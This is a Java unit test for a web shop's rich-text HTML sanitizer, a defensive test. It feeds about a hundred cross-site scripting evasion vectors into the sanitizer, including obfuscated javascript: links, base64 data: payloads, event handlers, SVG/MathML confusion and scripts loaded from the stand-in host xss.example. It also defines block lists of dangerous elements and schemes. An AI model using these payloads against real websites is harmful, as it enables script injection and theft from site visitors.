package fr.dwwm.comptoir.security;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The rich-text sanitizer against a corpus of cross-site scripting vectors in the style
 * of the OWASP XSS Filter Evasion Cheat Sheet (control C10): whatever an editor sends,
 * the HTML that reaches a page holds no script, no frame or plugin, no style, no SVG or
 * MathML, no form, no event handler and no link to {@code javascript:}, {@code data:} or
 * {@code vbscript:}. Each output is checked twice: parsed by jsoup (as a browser would
 * read it, entities decoded) and as plain text (in case the parser were too forgiving).
 * Harmless content, on the other hand, survives.
 */
class RichTextSanitizerTests {

	/** Elements that can run code, load another document, restyle or submit. */
	private static final Set<String> FORBIDDEN_ELEMENTS = Set.of("script", "iframe", "frame", "frameset", "object",
			"embed", "applet", "style", "link", "base", "meta", "form", "input", "button", "textarea", "select", "svg",
			"math", "img", "video", "audio", "source", "template", "noscript", "xml", "isindex");

	/** Attributes that hold a URL a browser may follow or load. */
	private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "action", "formaction", "data",
			"xlink:href", "background", "poster", "srcset", "lowsrc", "dynsrc", "codebase", "cite", "longdesc",
			"usemap");

	private static final List<String> FORBIDDEN_SCHEMES = List.of("javascript:", "data:", "vbscript:");

	/**
	 * A start tag in the output: text outside tags is escaped, so these are real tags.
	 */
	private static final Pattern TAG = Pattern.compile("<[a-z!/?][^>]*>");

	/** Whitespace and control characters, which browsers ignore inside a URL scheme. */
	private static final Pattern INVISIBLE = Pattern.compile("[\\s\\p{Cntrl}\\u00a0\\u200b-\\u200d\\ufeff]");

	private final RichTextSanitizer sanitizer = new RichTextSanitizer();

	static Stream<String> xssVectors() {
		return Stream.of(
				// Plain scripts.
				"<script>alert(1)</script>", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
				"<script src=//xss.example/a.js></script>", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
				"<script>alert('XSS')//", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
				"<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
				"<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\u0000>alert(1)</script>",
				"<p>text</p><script type=\"module\">import('https://xss.example')</script>",
				"</p><script>alert(1)</script><p>",
				// Event handlers.
				"<img src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">",
				"<img src=x onerror=`alert(1)`>", "<p onclick=\"alert(1)\">click</p>",
				"<a href=\"/ok\" onmouseover=\"alert(1)\">x</a>", "<body onload=alert(1)>",
				"<div onpointerenter=alert(1)>x</div>", "<h2 onfocus=alert(1) autofocus tabindex=1>t</h2>",
				"<details open ontoggle=alert(1)>", "<p/onclick=alert(1)>x</p>",
				"<strong onclick\u0000=alert(1)>x</strong>", "<em\tonmouseover=alert(1)>x</em>",
				"<a href=/ok onclick=alert(1)//>x</a>", "<img \"\"\"><script>alert(\"XSS\")</script>\">",
				"<img src=x:alert(alt) onerror=eval(src) alt=0>",
				// javascript:, vbscript: and data: links, disguised.
				"<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
				"<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java&#x09;script:alert(1)\">x</a>",
				"<a href=\"java&#x0A;script:alert(1)\">x</a>", "<a href=\"java&#13;script:alert(1)\">x</a>",
				"<a href=\" &#14; javascript:alert(1)\">x</a>",
				"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
				"<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
				"<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
				"<a href=\"jav&#x0D;ascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
				"<a href=`javascript:alert(1)`>x</a>", "<a href=javascript:alert(1)>x</a>",
				"<a href=\"\u0000javascript:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
				"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
				"<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"//xss.example/\">x</a>",
				"<a href=\"http:javascript:alert(1)\">x</a>",
				"<a href=\"https:/\\/xss.example\" onclick=alert(1)>x</a>",
				// Frames, plugins and documents in documents.
				"<iframe src=\"javascript:alert(1)\"></iframe>", "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>",
				"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
				"<frameset><frame src=\"javascript:alert(1)\"></frameset>",
				"<object data=\"javascript:alert(1)\"></object>",
				"<object type=\"text/x-scriptlet\" data=\"https://xss.example/s.html\"></object>",
				"<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
				"<embed src=https://xss.example/x.swf>", "<applet code=\"XSS\"></applet>",
				// Styles.
				"<style>body{background:url(\"javascript:alert(1)\")}</style>",
				"<p style=\"width:expression(alert(1))\">x</p>",
				"<div style=\"background-image:url(javascript:alert(1))\">x</div>",
				"<p style=\"-moz-binding:url(https://xss.example/xss.xml#xss)\">x</p>",
				"<link rel=\"stylesheet\" href=\"https://xss.example/xss.css\">",
				"<STYLE>@import'https://xss.example/xss.css';</STYLE>", "<p style=\"behavior: url(xss.htc);\">x</p>",
				// SVG and MathML, and namespace confusion.
				"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
				"<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
				"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
				"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
				"<math href=\"javascript:alert(1)\">click</math>",
				"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
				"<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
				// Forms, base, meta.
				"<form action=\"javascript:alert(1)\"><input type=submit></form>",
				"<form><button formaction=\"javascript:alert(1)\">x</button></form>",
				"<isindex type=image src=1 onerror=alert(1)>", "<base href=\"javascript:alert(1)//\">",
				"<base href=\"https://xss.example/\">",
				"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
				"<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
				"<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
				// Broken, nested and unclosed markup.
				"<img src=\"x\" onerror=\"alert(1)", "<a href=\"/ok\" title=\"\" onmouseover=alert(1) \"\">x</a>",
				"<<a href=\"javascript:alert(1)\">x</a>", "<a href=\"javascript:alert(1)\"<a href=\"/ok\">x</a>",
				"<p>\"><script>alert(1)</script></p>", "<![CDATA[<script>alert(1)</script>]]>",
				"<!--<script>alert(1)</script>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
				"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
				"<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
				"<textarea><script>alert(1)</script></textarea>", "<title><script>alert(1)</script></title>",
				"<a href=\"/ok\"\u0000onclick=alert(1)>x</a>", "<h2>title</h2\u0000><script>alert(1)</script>",
				"<video><source onerror=\"alert(1)\"></video>", "<audio src=x onerror=alert(1)>",
				"<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
				"<td background=\"javascript:alert(1)\">x</td>",
				"<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
				"<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\" style=\"color:red\">x</a>");
	}

	@ParameterizedTest
	@MethodSource("xssVectors")
	void leavesNothingThatRunsOrLoadsCode(String payload) {
		String output = this.sanitizer.sanitize(payload);
		assertSafeWhenParsed(output);
		assertSafeAsText(output);
	}

	@Test
	void theCorpusIsLargeEnough() {
		assertThat(xssVectors().count()).isGreaterThanOrEqualTo(60);
	}

	@Test
	void keepsHeadingsParagraphsListsAndEmphasis() {
		String html = "<h2>Livraison</h2><h3>Délais</h3><p>Sous <strong>48 h</strong>, <em>offerte</em> dès 60 €.</p>"
				+ "<ul><li>Colissimo</li><li>Point relais</li></ul><ol><li>Commander</li><li>Payer</li></ol>"
				+ "<blockquote>Très bon miel.</blockquote>";
		Document document = Jsoup.parseBodyFragment(this.sanitizer.sanitize(html));
		assertThat(document.select("h2").text()).isEqualTo("Livraison");
		assertThat(document.select("h3").text()).isEqualTo("Délais");
		assertThat(document.select("p strong").text()).isEqualTo("48 h");
		assertThat(document.select("p em").text()).isEqualTo("offerte");
		assertThat(document.select("ul > li")).hasSize(2);
		assertThat(document.select("ol > li")).hasSize(2);
		assertThat(document.select("blockquote").text()).isEqualTo("Très bon miel.");
	}

	@Test
	void httpsAndShopLinksAreKeptWithoutAccessToThisPage() {
		Document document = Jsoup.parseBodyFragment(
				this.sanitizer.sanitize("<p><a href=\"https://www.economie.gouv.fr/mediateur\">Médiation</a> et "
						+ "<a href=\"/pages/cgv\">CGV</a></p>"));
		Element external = document.selectFirst("a[href=https://www.economie.gouv.fr/mediateur]");
		Element internal = document.selectFirst("a[href=/pages/cgv]");
		assertThat(external).isNotNull();
		assertThat(internal).isNotNull();
		for (Element link : List.of(external, internal)) {
			assertThat(Set.of(link.attr("rel").split("\\s+"))).contains("noopener", "noreferrer");
		}
	}

	@Test
	void mailtoLinksAreKept() {
		Document document = Jsoup
			.parseBodyFragment(this.sanitizer.sanitize("<a href=\"mailto:contact@comptoir.test\">Écrivez-nous</a>"));
		assertThat(document.select("a").attr("href")).isEqualTo("mailto:contact@comptoir.test");
		assertThat(document.select("a").text()).isEqualTo("Écrivez-nous");
	}

	@Test
	void textIsEscapedNotDropped() {
		String output = this.sanitizer.sanitize("<p>1 < 2 & \"guillemets\" l'été</p>");
		assertThat(Jsoup.parseBodyFragment(output).select("p").text()).isEqualTo("1 < 2 & \"guillemets\" l'été");
		assertThat(output).doesNotContain("< 2");
	}

	@Test
	void protocolRelativeAndHttpLinksAreDropped() {
		assertThat(this.sanitizer.sanitize("<a href=\"//xss.example\">x</a><a href=\"http://plain.example\">y</a>"))
			.doesNotContain("href");
	}

	@Test
	void nothingGivesNothing() {
		assertThat(this.sanitizer.sanitize(null)).isEmpty();
		assertThat(this.sanitizer.sanitize("")).isEmpty();
	}

	private static void assertSafeWhenParsed(String output) {
		Document document = Jsoup.parseBodyFragment(output);
		for (Element element : document.body().getAllElements()) {
			assertThat(FORBIDDEN_ELEMENTS).as("element <%s> in %s", element.tagName(), output)
				.doesNotContain(element.normalName());
			for (Attribute attribute : element.attributes()) {
				String name = attribute.getKey().toLowerCase(Locale.ROOT);
				assertThat(name).as("event handler in %s", output).doesNotStartWith("on");
				assertThat(name).as("style attribute in %s", output).isNotEqualTo("style");
				if (URL_ATTRIBUTES.contains(name)) {
					String url = INVISIBLE.matcher(attribute.getValue()).replaceAll("").toLowerCase(Locale.ROOT);
					assertThat(FORBIDDEN_SCHEMES).as("%s=\"%s\" in %s", name, attribute.getValue(), output)
						.noneMatch(url::startsWith);
				}
			}
		}
	}

	private static void assertSafeAsText(String output) {
		String lower = output.toLowerCase(Locale.ROOT);
		for (String element : FORBIDDEN_ELEMENTS) {
			assertThat(lower).as(output).doesNotContain("<" + element);
		}
		Matcher tags = TAG.matcher(lower);
		while (tags.find()) {
			String tag = INVISIBLE.matcher(tags.group()).replaceAll(" ");
			assertThat(tag).as("event handler in %s", output).doesNotContainPattern("[\\s/\"']on[a-z]+\\s*=");
			assertThat(tag).as("style attribute in %s", output).doesNotContainPattern("[\\s/\"']style\\s*=");
			String packed = INVISIBLE.matcher(tags.group()).replaceAll("");
			for (String scheme : FORBIDDEN_SCHEMES) {
				assertThat(packed).as("%s link in %s", scheme, output)
					.doesNotContain("=\"" + scheme)
					.doesNotContain("='" + scheme)
					.doesNotContain("=" + scheme);
			}
		}
	}

}
